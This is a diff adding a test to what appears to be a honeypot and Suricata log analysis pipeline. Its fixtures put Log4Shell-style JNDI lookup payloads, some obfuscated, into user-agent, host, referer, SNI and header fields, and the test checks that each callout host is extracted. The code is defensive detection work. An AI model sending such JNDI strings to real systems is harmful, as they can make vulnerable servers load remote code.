@@ -100,3 +100,13 @@ def test_nodes_and_edges_of_sessions(spark):
     assert without_dangling(edges, nodes).count() == len(made) == len({r.id for r in made})
     assert {r.kind for r in made} == {"based-on", "located-at", "belongs-to", "indicates", "related-to"}
     assert [(r.group, r.events) for r in jndi_nodes(rows).collect()] == [("evil.example", 1)]
+
+
+def test_payloads_of_every_top_level_string(spark):
+    docs = [
+        doc("H0neytr4p", request_uri="/", body="x" * 20_000, **{"user-agent": "${jndi:ldap://agent.example/a}"}, host="${jndi:rmi://host.example/b}"),
+        doc("H0neytr4p", request_uri="/" + "${lower:y}" * 2_000, referer="${jndi:dns://referer.example/c}", sni="${${::-j}ndi:ldap://sni.example/d}", header_x="${jndi:ldap://x.example/e}"),
+        doc("Suricata", alert={"signature": "a"}, note=" ".join(f"${{jndi:ldap://many{i}.example/}}" for i in range(50))),
+    ]
+    rows = jndi_events(events(spark, docs)).collect()
+    assert {x.host for r in rows for x in r.jndi} == {f"{n}.example" for n in ["agent", "host", "referer", "sni", "x", *(f"many{i}" for i in range(50))]}
